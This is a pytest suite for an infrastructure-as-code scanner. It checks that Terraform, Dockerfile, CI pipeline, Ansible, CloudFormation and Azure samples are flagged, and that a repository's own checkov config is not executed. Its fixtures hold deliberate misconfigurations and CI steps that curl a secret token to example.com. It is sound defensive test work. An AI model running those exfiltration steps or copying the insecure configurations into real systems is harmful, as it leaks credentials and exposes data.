"""Terraform, Dockerfiles, pipelines and templates by the real command: what cannot be read is said."""

import http.server
import threading

import pytest

BUCKET = 'resource "aws_s3_bucket" "{name}" {{\n  bucket = "{name}"\n  acl    = "public-read"\n}}\n'
PUBLIC = BUCKET.format(name="public")
DOCKERFILE = "FROM python:3.12-slim@sha256:" + "0" * 64 + "\nUSER app\nHEALTHCHECK CMD true\n"
INJECTION = """\
on: pull_request
permissions: read-all
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ github.event.pull_request.title }}"
"""
CURL = """\
on: push
permissions: {}
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
    - run: curl -d "${{ secrets.TOKEN }}" https://example.com
"""
ACTION = """\
name: greet
description: greets
runs:
  using: composite
  steps:
    - run: echo "${{ github.event.pull_request.title }}"
      shell: bash
"""
STACK = """\
AWSTemplateFormatVersion: "2010-09-09"
Resources:
  Documents:
    Type: AWS::S3::Bucket
    Properties: {AccessControl: PublicRead}
"""
ARM = """\
{
  "$schema": "https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#",
  "contentVersion": "1.0.0.0",
  "resources": [
    {"type": "Microsoft.Storage/storageAccounts", "apiVersion": "2019-06-01", "name": "documents",
     "location": "brazilsouth", "kind": "StorageV2", "sku": {"name": "Standard_LRS"},
     "properties": {"supportsHttpsTrafficOnly": false}}
  ]
}
"""
BICEP = """\
resource documents 'Microsoft.Storage/storageAccounts@2019-06-01' = {
  name: 'documents'
  location: 'brazilsouth'
  kind: 'StorageV2'
  sku: { name: 'Standard_LRS' }
  properties: { supportsHttpsTrafficOnly: false }
}
"""
GITLAB = (
    "job:\n  image: python:3.12\n  script:\n    - curl -d @/tmp/token https://example.com/$CI_JOB_TOKEN\n"
)
PLAYBOOK = """\
- hosts: all
  tasks:
    - name: fetch
      ansible.builtin.get_url:
        url: https://example.com/x
        dest: /tmp/x
        validate_certs: false
"""
TASKS = PLAYBOOK.partition("tasks:\n")[2].replace("    - name", "- name").replace("\n      ", "\n  ")

# What must never pass, and how it ends: a status of the file, or a rule that reports it.
CASES = {
    "good/main.tf": (PUBLIC, "CKV_AWS_20"),
    ".hidden/main.tf": (PUBLIC, "CKV_AWS_20"),
    "node_modules/main.tf": (PUBLIC, "CKV_AWS_20"),
    ".terraform/modules/main.tf": (PUBLIC, "CKV_AWS_20"),
    "broken/main.tf": (PUBLIC + 'resource "aws_s3_bucket" "x" {\n', "unparseable"),
    "broken/other.tf": (BUCKET.format(name="other"), "CKV_AWS_20"),
    "nameless/main.tf": ('resource "aws_s3_bucket" {\n  acl = "public-read"\n}\n', "unparseable"),
    "moved/main.tf": ("moved {\n  from = aws_vpc.a\n  to   = aws_vpc.b\n}\n" + PUBLIC, "scanned"),
    "binary/main.tf": (bytes(range(256)), "unparseable"),
    "values/main.tf": (
        'variable "acl" { default = "private" }\nresource "aws_s3_bucket" "v" {\n  acl = var.acl\n}\n',
        "CKV_AWS_20",
    ),
    "values/production.tfvars": ('acl = "public-read"\n', "scanned"),
    "values/broken.tfvars": ("acl = [\n", "unparseable"),
    "json/main.tf.json": ('{"resource": {}}', "no-tool"),
    "terragrunt.hcl": ('terraform { source = "x" }\n', "no-tool"),
    "compose.yaml": ("services: {a: {image: a, privileged: true}}\n", "GUARITA_COMPOSE_1"),
    "serverless.yml": ("service: x\n", "no-tool"),
    "Dockerfile": (DOCKERFILE.replace("USER app", "USER root"), "CKV_DOCKER_8"),
    "heredoc.Dockerfile": (
        DOCKERFILE + "RUN <<END\ncurl --insecure https://example.com\necho USER\nEND\nUSER root\n",
        "CKV_DOCKER_8",
    ),
    "endless.Dockerfile": (DOCKERFILE + "RUN <<END\necho\n", "unparseable"),
    "Dockerfile.py": ("# the image\nARG VERSION=1\n" + DOCKERFILE + "USER root\n", "CKV_DOCKER_8"),
    "Containerfile": (DOCKERFILE + "\nwhat is this\n", "unparseable"),
    "empty/Dockerfile": ("", "unparseable"),
    "none/Dockerfile": ("RUN true\n", "unparseable"),
    "escape/Dockerfile": ("# escape=`\n" + DOCKERFILE, "unparseable"),
    "template/Dockerfile.j2": (DOCKERFILE + "{% if x %}\nUSER root\n{% endif %}\n", "unparseable"),
    ".github/workflows/injection.yml": (INJECTION, "CKV_GHA_2"),
    ".github/workflows/broken.yml": (INJECTION + "  - [\n", "unparseable"),
    ".github/workflows/two.yml": ("jobs: {a: {steps: []}}\n---\n" + INJECTION, "unparseable"),
    ".github/workflows/nothing.yml": ("name: x\n", "unparseable"),
    ".github/actions/greet/action.yml": (ACTION, "CKV_GHA_2"),
    ".gitlab-ci.yml": ("spec: {inputs: {a: {}}}\n---\n" + GITLAB, "CKV_GITLABCI_1"),
    "ci/broken.gitlab-ci.yml": ("a: [\n", "unparseable"),
    "stack.yaml": (STACK, "CKV_AWS_20"),
    "long.yaml": ("# padding\n" * 2000 + STACK.partition("\n")[2], "CKV_AWS_20"),
    "broken-stack.yaml": (STACK + "  : [\n", "unparseable"),
    "site.yml": (PLAYBOOK, "CKV_ANSIBLE_2"),
    "roles/web/tasks/main.yml": (TASKS.replace("ansible.builtin.", ""), "CKV_ANSIBLE_2"),
    "tasks.yaml": (TASKS, "CKV_ANSIBLE_2"),
    "broken-site.yml": (PLAYBOOK + "  x: [\n", "unparseable"),
    "arm.json": (ARM, "CKV_AZURE_3"),
    "main.bicep": (BICEP, "CKV_AZURE_3"),
    "broken.bicep": ("resource x {\n", "unparseable"),
}


@pytest.fixture(scope="module")
def scan(new_repository):
    repository = new_repository()
    repository.commit({name: content for name, (content, _) in CASES.items()})
    return repository.scan(scanners=("infrastructure",))


@pytest.mark.parametrize("name", CASES)
def test_what_fails_open_elsewhere_does_not_here(scan, name):
    wanted = CASES[name][1]
    # Where zizmor knows it too, its finding stays and names checkov's.
    found = {
        rule.removeprefix("infrastructure:")
        for f in scan.findings()
        if f["location"]["path"] == name
        for rule in (f["rule"], *f["also"])
    }
    assert wanted in found | {scan.file(name)["status"]}


def test_the_run_is_unknown(scan):
    assert (scan.status, scan.report["result"], scan.report["problems"]) == (3, "unknown", [])


def test_a_program_about_dockerfiles_is_none(repository):
    repository.commit({"dockerfile.py": 'KNOWN = """\n  FROM x\n"""\n', "Dockerfile.md": "# How\n"})
    scan = repository.scan(scanners=("infrastructure",))
    assert (scan.status, scan.file("dockerfile.py")["rule"]) == (0, "not-asked")


def test_a_charts_template_is_no_broken_playbook(repository):
    ingress = "kind: Ingress\nspec:\n  tls:\n    - hosts: [{{ .Values.host }}]\n  x: [{{ .y }}\n"
    repository.commit({"chart/templates/ingress.yaml": ingress})
    scan = repository.scan(scanners=("infrastructure",))
    assert (scan.status, scan.file("chart/templates/ingress.yaml")["rule"]) == (0, "not-a-manifest")


@pytest.mark.timeout(120)
@pytest.mark.parametrize("line", ["\n", "  hosts: a\n", "- a.b.c\n", "{{ ", " - "])
def test_a_long_file_costs_no_more_than_its_length(repository, line):
    repository.commit({"long.yaml": line * (4_000_000 // len(line)) + "  : [\n"})
    assert repository.scan(scanners=("infrastructure",)).status in {0, 3}


def test_lines_after_a_here_document_are_the_files_own(scan):
    (found,) = [
        f
        for f in scan.findings()
        if f["rule"] == "CKV_DOCKER_8" and f["location"]["path"] == "heredoc.Dockerfile"
    ]
    content = CASES["heredoc.Dockerfile"][0].splitlines()
    assert content[found["location"]["line"] - 1] == "USER root"


def test_a_module_is_judged_once_for_all_its_instances(repository):
    call = 'module "{}" {{\n  source = "./module"\n}}\n'
    repository.commit({"main.tf": call.format("a") + call.format("b"), "module/main.tf": PUBLIC})
    scan = repository.scan(scanners=("infrastructure",))
    (found,) = [f for f in scan.findings() if f["rule"] == "CKV_AWS_20"]
    assert (found["resource"], found["location"]["path"]) == ("aws_s3_bucket.public", "module/main.tf")
    assert "module.a" in found["message"]
    assert "module.b" in found["message"]


@pytest.mark.parametrize("kind", ["{}", "git::{}", "{}/x.zip"])
def test_a_module_from_elsewhere_is_named_and_not_fetched(repository, kind):
    asked = []

    class Server(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_error(404)

        def log_message(self, *_):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Server) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        source = kind.format(f"http://127.0.0.1:{server.server_port}/m")
        repository.commit({"main.tf": f'module "far" {{\n  source = "{source}"\n}}\n'})
        scan = repository.scan(scanners=("infrastructure",))
        server.shutdown()
    assert asked == []
    assert scan.status == 1
    (found,) = [f for f in scan.findings("failing") if f["rule"] == "GUARITA_TF_1"]
    assert (found["resource"], found["location"]["line"]) == ("module.far", 1)


def test_a_module_outside_the_tree_is_not_read(repository, tmp_path):
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "main.tf").write_text(PUBLIC)
    repository.commit(
        {"main.tf": f'module "out" {{\n  source = "../../../../../../..{tmp_path}/outside"\n}}\n'}
    )
    scan = repository.scan(scanners=("infrastructure",))
    assert scan.status == 1
    assert "CKV_AWS_20" not in scan.rules()
    assert "GUARITA_TF_1" in scan.rules("failing")


@pytest.mark.parametrize(
    ("name", "content", "rule"),
    [
        ("main.tf", PUBLIC.replace("{\n", "{\n  # checkov:skip=CKV_AWS_20:we know\n", 1), "CKV_AWS_20"),
        ("Dockerfile", "# checkov:skip=CKV_DOCKER_8:we know\n" + DOCKERFILE + "USER root\n", "CKV_DOCKER_8"),
        (".github/workflows/w.yml", "# checkov:skip=CKV_GHA_3:we know\n" + CURL, "CKV_GHA_3"),
        (
            "stack.yaml",
            STACK.replace("    Type", "    # checkov:skip=CKV_AWS_20:we know\n    Type"),
            "CKV_AWS_20",
        ),
        (
            "metadata.yaml",
            STACK.replace(
                "    Type",
                "    Metadata: {checkov: {skip: [{id: CKV_AWS_20, comment: we know}]}}\n    Type",
            ),
            "CKV_AWS_20",
        ),
        ("main.bicep", BICEP.replace("{\n", "{\n  // checkov:skip=CKV_AZURE_3:we know\n", 1), "CKV_AZURE_3"),
    ],
)
def test_a_comment_asks_and_the_policy_answers(repository, name, content, rule):
    repository.commit({name: content})
    found = [f for f in repository.scan(scanners=("infrastructure",)).findings() if f["rule"] == rule]
    assert found
    assert {f["suppression"]["reason"] for f in found} == {"we know"}


def test_the_trees_own_configuration_is_no_judge_and_is_not_run(repository, tmp_path):
    mark = tmp_path / "ran"
    bomb = f"open({str(mark)!r}, 'w')\n"
    hostile = (
        "soft-fail: true\nskip-check: [CKV_AWS_20]\nexternal-checks-dir: [checks]\n"
        "download-external-modules: true\nframework: [dockerfile]\nskip-path: [main.tf]\n"
    )
    repository.commit(
        {
            "main.tf": PUBLIC,
            ".checkov.yaml": hostile,
            "checks/__init__.py": bomb,
            "checks/own.py": bomb,
            "hcl2.py": bomb,
            "policy/own.yaml": "metadata: {id: CKV2_OWN_1}\n",
        }
    )
    scan = repository.scan(scanners=("infrastructure",))
    assert scan.status == 1
    assert "CKV_AWS_20" in scan.rules("failing")
    assert not mark.exists()


def test_a_secret_in_a_provider_is_not_shown(repository):
    secret = "AKIAIOSFODNN7EXAMPLE"  # the example of AWS's own documentation
    provider = f'provider "aws" {{\n  access_key = "{secret}"\n  secret_key = "{"x" * 40}"\n}}\n'
    repository.commit({"main.tf": provider})
    scan = repository.scan(scanners=("infrastructure",))
    assert "CKV_AWS_41" in scan.rules()
    assert secret not in scan.raw + scan.text
